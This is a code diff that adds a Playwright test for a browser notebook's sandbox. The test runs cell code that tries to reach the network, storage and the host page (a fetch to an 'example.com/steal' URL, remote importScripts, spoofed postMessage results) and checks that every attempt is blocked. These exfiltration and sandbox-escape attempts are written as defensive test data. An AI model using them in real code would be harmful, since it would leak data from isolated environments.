@@ -153,6 +153,52 @@ export default attempts;`,
     await expect(output(cell)).not.toContainText("sk-secret");
   });
 
+  test("isolation: no network, no storage, no messages to the page; the lab library still loads its models", async ({
+    guardedPage: page,
+  }) => {
+    const outside: string[] = [];
+    page.on("request", (request) => {
+      if (new URL(request.url()).hostname !== "127.0.0.1") outside.push(request.url());
+    });
+    const cell = await openCell(page, "07-labeling-with-llms", "label");
+    await setCode(
+      cell,
+      `// @ts-nocheck
+const attempts = {};
+const tries = [
+  ["fetch", () => fetch("https://example.com/steal?k=1")],
+  ["WebSocket", () => new WebSocket("wss://example.com")],
+  ["EventSource", () => new EventSource("https://example.com")],
+  ["XMLHttpRequest", () => new XMLHttpRequest()],
+  ["importScripts", () => importScripts("https://example.com/x.js")],
+  ["indexedDB", () => indexedDB.open("x")],
+  ["caches", () => caches.open("x")],
+  ["Worker", () => new Worker("/x.js")],
+  ["postMessage", () => postMessage({ type: "result", id: 1, display: { kind: "text", text: "SPOOFED RESULT" } })],
+  ["proto postMessage", () => Object.getPrototypeOf(self).postMessage.call(self, { type: "result", id: 1, display: { kind: "text", text: "SPOOFED RESULT" } })],
+  ["listen", () => addEventListener("message", () => {})],
+];
+for (const [name, attempt] of tries) {
+  try { await attempt(); attempts[name] = "allowed"; } catch (e) { attempts[name] = "blocked"; }
+}
+export default attempts;`,
+    );
+    expect(await run(cell)).toBe("done");
+    const result = cell.locator('[data-part="result"]');
+    await expect(result).not.toContainText("SPOOFED");
+    await expect(result).not.toContainText("allowed");
+    for (const name of [
+      "fetch",
+      "WebSocket",
+      "importScripts",
+      "indexedDB",
+      "postMessage",
+      "listen",
+    ])
+      await expect(result).toContainText(`${name}: "blocked"`);
+    expect(outside).toEqual([]);
+  });
+
   test("Monaco is not downloaded until a cell nears the viewport", async ({
     guardedPage: page,
   }) => {
